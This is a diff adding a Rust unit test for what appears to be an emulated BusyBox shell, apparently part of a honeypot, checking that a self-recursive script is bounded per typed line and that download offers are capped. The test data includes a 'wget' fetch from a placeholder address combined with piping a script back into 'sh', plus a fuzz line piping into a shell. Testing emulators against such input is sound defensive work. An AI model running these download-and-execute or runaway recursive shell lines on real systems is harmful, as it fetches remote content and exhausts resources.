@@ -256,3 +256,28 @@ fn the_fuzz_entry_runs_hostile_scripts() {
     }
     fuzz_lines(b"cat > /tmp/x <<EOF\nsh -c 'echo a | sh'\n\x00\xff");
 }
+
+#[test]
+fn nested_scripts_are_bounded_per_typed_line() {
+    // A script that runs itself from each of its lines: 256 × 256 nested lines per typed line
+    // without a budget. Each nested line offers a download, so the events count the work done.
+    let rec = Rec::default();
+    let mut sh = Shell::new(Flavor::BusyBox, "root", ShellLimits::default());
+    let script = "wget http://192.0.2.1/x; cat /tmp/r.sh | sh\n".repeat(300);
+    sh.run_with_stdin(&rec, b"cat > /tmp/r.sh", script.as_bytes(), 0);
+    for _ in 0..3 {
+        sh.input_line(&rec, b"cat /tmp/r.sh | sh");
+    }
+    sh.finish(&rec);
+    let offered = rec.events.borrow().iter().filter(|d| matches!(d, Detail::DownloadOffered { .. })).count();
+    assert_eq!(offered, 200, "max_events download offers are recorded");
+    let shed = rec.events.borrow().iter().find_map(|d| match d {
+        Detail::Extension { kind, fields } if kind == "shell_shed" => Some(fields[4].clone()),
+        _ => None,
+    });
+    let (key, counted) = shed.unwrap();
+    assert_eq!(key, "downloads_not_recorded");
+    let run = 200 + counted.parse::<usize>().unwrap();
+    assert!(run <= 3 * (MAX_NESTED_PER_INPUT + 1), "{run} nested lines run");
+    assert!(run >= 3 * MAX_NESTED_PER_INPUT, "{run}: the budget is used, not more");
+}
